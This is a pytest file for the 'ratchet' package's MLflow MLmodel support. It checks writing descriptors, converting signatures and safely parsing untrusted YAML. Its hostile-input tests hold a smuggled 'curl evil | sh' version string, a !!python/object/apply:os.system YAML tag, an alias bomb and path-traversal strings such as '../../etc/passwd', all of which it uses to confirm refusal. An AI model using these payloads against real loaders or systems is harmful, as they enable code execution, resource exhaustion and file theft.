"""MLflow's MLmodel descriptor: the one ratchet writes beside every model, and reading the
ones MLflow writes (untrusted YAML) into a ratchet manifest."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
import yaml
from sklearn.datasets import load_iris
from sklearn.linear_model import LinearRegression, LogisticRegression

from ratchet.errors import InvalidInput
from ratchet.packaging import Manifest, save_model
from ratchet.packaging.mlflow_format import (
    LOADER_MODULE,
    MAX_MLMODEL_BYTES,
    MLMODEL_FILENAME,
    manifest_for_mlflow_model,
    mlflow_signature,
    ratchet_signature,
)
from ratchet.packaging.signature import Signature, infer_signature

# As MLflow 3.17 writes them (mlflow.sklearn.save_model, default skops; cloudpickle).
MLFLOW3_SKOPS = """\
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.skops
    predict_fn: predict
    python_version: 3.11.7
  sklearn:
    code: null
    pickled_model: model.skops
    serialization_format: skops
    sklearn_version: 1.9.1
    skops_trusted_types: null
is_signature_from_type_hint: false
mlflow_version: 3.17.2
model_id: null
model_size_bytes: 10678
model_uuid: 6340e1527cdf4943bbd266ee0bdda069
prompts: null
saved_input_example_info:
  artifact_path: input_example.json
  pandas_orient: split
  serving_input_path: serving_input_example.json
  type: dataframe
signature:
  inputs: '[{"type": "double", "name": "a", "required": true}, {"type": "long", "name":
    "b", "required": true}]'
  outputs: '[{"type": "tensor", "tensor-spec": {"dtype": "int64", "shape": [-1]}}]'
  params: null
type_hint_from_example: false
utc_time_created: '2026-12-06 08:00:00.348424'
"""

# As MLflow 2.22 writes it (its default: cloudpickle).
MLFLOW2_CLOUDPICKLE = """\
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.11.7
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.9.1
mlflow_version: 2.22.5
model_size_bytes: 815
model_uuid: 236f78f8354d4dfcb41669dd32e968f3
prompts: null
utc_time_created: '2026-12-06 07:59:24.698437'
"""

MLFLOW_PYTHON_MODEL = """\
flavors:
  python_function:
    cloudpickle_version: 3.1.3
    code: null
    loader_module: mlflow.pyfunc.model
    python_model: python_model.pkl
    python_version: 3.11.7
    streamable: false
mlflow_version: 3.17.2
"""

XGBOOST_MLMODEL = """\
flavors:
  python_function:
    data: model.ubj
    loader_module: mlflow.xgboost
    python_version: 3.11.7
  xgboost:
    code: null
    data: model.ubj
    model_class: xgboost.sklearn.XGBClassifier
    model_format: ubj
    xgb_version: 3.2.0
mlflow_version: 3.17.2
"""

LIGHTGBM_BOOSTER_MLMODEL = """\
flavors:
  lightgbm:
    code: null
    data: model.lgb
    lgb_version: 4.7.0
    model_class: lightgbm.basic.Booster
  python_function:
    data: model.lgb
    loader_module: mlflow.lightgbm
    python_version: 3.11.7
"""

LIGHTGBM_PICKLED_MLMODEL = """\
flavors:
  lightgbm:
    data: model.pkl
    model_class: lightgbm.sklearn.LGBMClassifier
    serialization_format: cloudpickle
"""


# --------------------------------------------------------------------------- writing
def read_written(directory: Path) -> tuple[str, dict[str, Any]]:
    text = (directory / MLMODEL_FILENAME).read_text()
    return text, yaml.safe_load(text)


def test_save_model_writes_an_mlmodel_that_loads_through_ratchet(tmp_path: Path) -> None:
    X, y = load_iris(return_X_y=True, as_frame=True)
    manifest = save_model(LogisticRegression(max_iter=500).fit(X, y), tmp_path / "m",
                          input_example=X)
    text, data = read_written(tmp_path / "m")
    pyfunc = data["flavors"]["python_function"]
    assert pyfunc["loader_module"] == LOADER_MODULE
    assert "data" not in pyfunc  # MLflow hands _load_pyfunc the directory itself
    assert data["flavors"]["ratchet"] == {
        "flavor": "sklearn", "manifest": "ratchet-model.json", "model_file": "model.skops",
        "safe": True, "requires_trust": False, "ratchet_version": manifest.ratchet_version,
    }
    inputs = json.loads(data["signature"]["inputs"])
    assert inputs == [{"type": "double", "name": c, "required": True} for c in X.columns]
    assert json.loads(data["signature"]["outputs"]) == [
        {"type": "long", "name": "prediction", "required": True}]
    assert len(data["model_uuid"]) == 32
    assert "pickle" not in text
    assert sorted(p.name for p in (tmp_path / "m").iterdir()) == [
        "MLmodel", "model.skops", "ratchet-model.json"]


def test_a_pickled_model_says_in_its_mlmodel_that_it_needs_trust(tmp_path: Path) -> None:
    from tests.packaging.test_flavors import Doubler

    save_model(Doubler(2.0), tmp_path / "m")
    text, data = read_written(tmp_path / "m")
    assert data["flavors"]["ratchet"]["requires_trust"] is True
    assert data["flavors"]["ratchet"]["safe"] is False
    assert "runs arbitrary code" in text and "trust=True" in text
    assert "signature" not in data


def test_a_model_trained_on_arrays_has_no_mlflow_signature(tmp_path: Path) -> None:
    X, y = load_iris(return_X_y=True)
    save_model(LinearRegression().fit(X, y), tmp_path / "m", input_example=X)
    _, data = read_written(tmp_path / "m")
    assert "signature" not in data  # MLflow would make a frame with columns 0..3 of it


def manifest_with(signature: Signature, input_format: str = "dataframe") -> Manifest:
    return Manifest(flavor="sklearn", model_file="model.skops", library_versions={},
                    signature=signature.to_dict(), input_example=None, metrics={}, safe=True,
                    has_predict_proba=False, input_format=input_format)


def test_signature_to_mlflow_is_loose_where_ratchet_casts_after() -> None:
    frame = pd.DataFrame({
        "i8": np.array([1, 2], dtype="int8"),
        "f32": np.array([1.5, 2.5], dtype="float32"),
        "nullable_int": [1.0, None],
        "flag": [True, False],
        "name": ["a", "b"],
        "city": pd.Categorical(["x", "y"]),
        "when": pd.to_datetime(["2024-01-01", "2024-01-02"]),
    })
    signature = infer_signature(frame)
    columns = [c.to_dict() for c in signature.inputs]
    columns[2] = {**columns[2], "dtype": "int64"}  # an int column that had nulls
    converted = mlflow_signature(manifest_with(Signature.from_dict({"inputs": columns})))
    assert converted is not None and converted["outputs"] is None
    assert json.loads(converted["inputs"]) == [
        {"type": "long", "name": "i8", "required": True},
        {"type": "double", "name": "f32", "required": True},
        {"type": "double", "name": "nullable_int", "required": False},
        {"type": "boolean", "name": "flag", "required": True},
        {"type": "string", "name": "name", "required": True},
        {"type": "string", "name": "city", "required": True},
        {"type": "datetime", "name": "when", "required": True},
    ]


@pytest.mark.parametrize("frame", [
    pd.DataFrame({"code": pd.Categorical([1, 2])}),  # number categories: ratchet maps back
    pd.DataFrame({"blob": [b"x", b"y"]}),  # object: no MLflow type
    pd.DataFrame({"when": pd.to_datetime(["2024-01-01"]).tz_localize("Europe/Paris")}),
], ids=["numeric-categories", "object", "zoned-datetime"])
def test_a_signature_mlflow_cannot_enforce_is_left_out(frame: pd.DataFrame) -> None:
    assert mlflow_signature(manifest_with(infer_signature(frame))) is None


# --------------------------------------------------------------------------- reading
def test_an_mlflow3_skops_model_is_safe_with_its_signature() -> None:
    manifest = manifest_for_mlflow_model(MLFLOW3_SKOPS, "models/m/MLmodel")
    assert (manifest.flavor, manifest.model_file, manifest.safe) == ("mlflow", "MLmodel", True)
    assert manifest.has_predict_proba is False and manifest.input_example is None
    assert manifest.input_format == "dataframe"
    # mlflow is not needed to load it: not among the model's libraries
    assert manifest.library_versions == {"python": "3.11.7", "scikit-learn": "1.9.1"}
    assert manifest.created_at == "2026-12-06T08:00:00.348Z"
    signature = Signature.from_dict(manifest.signature)
    assert [(c.name, c.dtype, c.nullable) for c in signature.inputs] == [
        ("a", "float64", False), ("b", "int64", False)]
    assert [(c.name, c.dtype) for c in signature.outputs] == [("prediction", "int64")]
    # What the registry stores: the manifest survives its own JSON check.
    assert Manifest.from_json(manifest.to_json(), "x") == manifest


@pytest.mark.parametrize(("text", "safe"), [
    (MLFLOW2_CLOUDPICKLE, False),
    (MLFLOW_PYTHON_MODEL, False),
    (XGBOOST_MLMODEL, True),
    (LIGHTGBM_BOOSTER_MLMODEL, True),
    (LIGHTGBM_PICKLED_MLMODEL, False),
    (LIGHTGBM_PICKLED_MLMODEL.replace("cloudpickle", "skops").replace("model.pkl",
                                                                      "model.skops"), True),
    (MLFLOW2_CLOUDPICKLE.replace("    serialization_format: cloudpickle\n", ""), False),
], ids=["sklearn-cloudpickle", "python-model", "xgboost", "lightgbm-booster",
        "lightgbm-pickled", "lightgbm-skops", "sklearn-no-format-is-cloudpickle"])
def test_safe_follows_the_underlying_format(text: str, safe: bool) -> None:
    manifest = manifest_for_mlflow_model(text, "MLmodel")
    assert manifest.safe is safe
    assert manifest.signature is None and manifest.input_format is None


def test_library_versions_are_plain_versions_and_mlflow_only_when_needed() -> None:
    manifest = manifest_for_mlflow_model(MLFLOW_PYTHON_MODEL, "MLmodel")
    assert manifest.library_versions == {"python": "3.11.7", "mlflow": "3.17.2",
                                         "cloudpickle": "3.1.3"}
    hostile = MLFLOW2_CLOUDPICKLE.replace("sklearn_version: 1.9.1",
                                          "sklearn_version: '1.0; curl evil | sh'")
    assert manifest_for_mlflow_model(hostile, "MLmodel").library_versions == {
        "python": "3.11.7"}


def test_the_uploaded_files_must_hold_the_model_file() -> None:
    files = ["MLmodel", "model.skops", "conda.yaml"]
    assert manifest_for_mlflow_model(MLFLOW3_SKOPS, "m", files).safe
    with pytest.raises(InvalidInput, match=r"'model\.skops', which is not among"):
        manifest_for_mlflow_model(MLFLOW3_SKOPS, "m", ["MLmodel", "model.pkl"])


def test_a_model_saved_by_ratchet_is_read_by_its_manifest(tmp_path: Path) -> None:
    X, y = load_iris(return_X_y=True, as_frame=True)
    save_model(LogisticRegression(max_iter=500).fit(X, y), tmp_path / "m")
    text = (tmp_path / "m" / MLMODEL_FILENAME).read_text()
    with pytest.raises(InvalidInput, match=r"saved by ratchet.*ratchet-model\.json"):
        manifest_for_mlflow_model(text, "m/MLmodel")


@pytest.mark.parametrize(("raw", "expected", "input_format"), [
    # a tensor input: the model takes an array, no columns to check
    ({"inputs": '[{"type": "tensor", "tensor-spec": {"dtype": "float64", "shape": [-1, 4]}}]'},
     None, "ndarray"),
    # binary has no ratchet column type: no signature, but the model took a frame
    ({"inputs": '[{"type": "binary", "name": "x"}]'}, None, "dataframe"),
    # unnamed columns
    ({"inputs": '[{"type": "double"}]'}, None, None),
    # optional column, float, outputs as named columns
    ({"inputs": '[{"type": "float", "name": "x", "required": false}]',
      "outputs": '[{"type": "double", "name": "p"}, {"type": "double", "name": "q"}]'},
     {"inputs": [("x", "float32", True)], "outputs": [("p", "float64"), ("q", "float64")]},
     "dataframe"),
    # inputs given as a list (not a JSON string): read the same
    ({"inputs": [{"type": "boolean", "name": "b"}]},
     {"inputs": [("b", "bool", False)], "outputs": []}, "dataframe"),
])
def test_signature_conversion(raw: dict[str, Any], expected: dict[str, Any] | None,
                              input_format: str | None) -> None:
    signature, fmt = ratchet_signature(raw, "MLmodel")
    assert fmt == input_format
    if expected is None:
        assert signature is None
        return
    parsed = Signature.from_dict(signature)
    assert [(c.name, c.dtype, c.nullable) for c in parsed.inputs] == expected["inputs"]
    assert [(c.name, c.dtype) for c in parsed.outputs] == expected["outputs"]


# --------------------------------------------------------------------------- hostile
def test_a_huge_mlmodel_is_refused_before_parsing() -> None:
    text = MLFLOW3_SKOPS + "#" * MAX_MLMODEL_BYTES
    with pytest.raises(InvalidInput, match="larger than"):
        manifest_for_mlflow_model(text, "m/MLmodel")


def test_python_yaml_tags_are_refused_and_never_run(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    text = MLFLOW3_SKOPS + (
        f"evil: !!python/object/apply:os.system ['touch {marker}']\n")
    with pytest.raises(InvalidInput, match="m/MLmodel"):
        manifest_for_mlflow_model(text, "m/MLmodel")
    assert not marker.exists()
    with pytest.raises(InvalidInput):
        manifest_for_mlflow_model("flavors: !!python/name:os.system\n", "m/MLmodel")


def test_alias_bombs_and_deep_nesting_are_refused() -> None:
    lines = ['a0: &a0 ["x", "x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    lines += [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, "
              f"*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]" for i in range(1, 9)]
    with pytest.raises(InvalidInput, match="alias"):
        manifest_for_mlflow_model("\n".join(lines) + "\n" + MLFLOW3_SKOPS, "m")
    with pytest.raises(InvalidInput, match="nested"):
        manifest_for_mlflow_model("flavors: " + "[" * 5000 + "]" * 5000, "m")


@pytest.mark.parametrize(("text", "match"), [
    ("- just\n- a list\n", "must be a YAML mapping"),
    ("", "must be a YAML mapping"),
    ("flavors: python_function\n", "no 'flavors' mapping"),
    ("flavors: {}\n", "no 'flavors' mapping"),
    ("flavors:\n  sklearn: [1, 2]\n", "must map to a mapping"),
    ("flavors:\n  sklearn:\n    pickled_model: 42\n", "must name the model file"),
    ("flavors:\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: marshal\n",
     "serialization_format 'marshal'"),
    ("flavors:\n  python_function:\n    loader_module: [os]\n", "must be a string"),
    ("flavors:\n  python_function: {}\n", "names no loader_module"),
    ("flavors:\n  onnx:\n    data: model.onnx\n", "no MLmodel flavor ratchet can load"),
    ("flavors:\n  xgboost:\n    data: model.ubj\n    model_class: os.system\n",
     "'os.system' is not one ratchet loads"),
    (MLFLOW3_SKOPS.replace("inputs: '[", "inputs: '[[[["), "not valid JSON"),
    (MLFLOW3_SKOPS.replace("signature:\n", "signature: 7\nx:\n"), "'signature' must be"),
    ("flavors:\n  sklearn:\n    pickled_model: model.skops\nsignature:\n"
     "  inputs: '{\"type\": \"double\"}'\n", "JSON list"),
], ids=["list", "empty", "flavors-string", "flavors-empty", "flavor-list", "file-number",
        "unknown-serialization", "loader-list", "no-loader", "unknown-flavor",
        "xgboost-class", "signature-json", "signature-type", "signature-object"])
def test_malformed_mlmodels_are_one_line_errors(text: str, match: str) -> None:
    with pytest.raises(InvalidInput, match=match) as info:
        manifest_for_mlflow_model(text, "runs/r/model/MLmodel")
    assert "runs/r/model/MLmodel" in str(info.value)


@pytest.mark.parametrize("path", [
    "../../etc/passwd", "/etc/passwd", "a/../../b", "model\\..\\x", "./model.pkl",
    "c:model.pkl", "a//b", "model.pkl\x00.txt", "x/" * 20 + "m",
])
def test_model_file_paths_stay_inside_the_directory(path: str) -> None:
    text = yaml.safe_dump({"flavors": {"sklearn": {"pickled_model": path,
                                                    "serialization_format": "skops"}}})
    with pytest.raises(InvalidInput, match="relative path inside the model directory"):
        manifest_for_mlflow_model(text, "m")


@pytest.mark.parametrize(("written", "created_at"), [
    ("'2026-12-06 08:00:00.348424'", "2026-12-06T08:00:00.348Z"),
    ("2026-12-06 08:00:00.348424", "2026-12-06T08:00:00.348Z"),  # YAML reads a timestamp
])
def test_the_creation_time_is_mlflows(written: str, created_at: str) -> None:
    text = MLFLOW2_CLOUDPICKLE.replace("'2026-12-06 07:59:24.698437'", written)
    assert manifest_for_mlflow_model(text, "MLmodel").created_at == created_at


def test_an_unreadable_creation_time_is_replaced_by_now() -> None:
    text = MLFLOW2_CLOUDPICKLE.replace("'2026-12-06 07:59:24.698437'", "[not, a, time]")
    assert manifest_for_mlflow_model(text, "MLmodel").created_at.startswith("20")
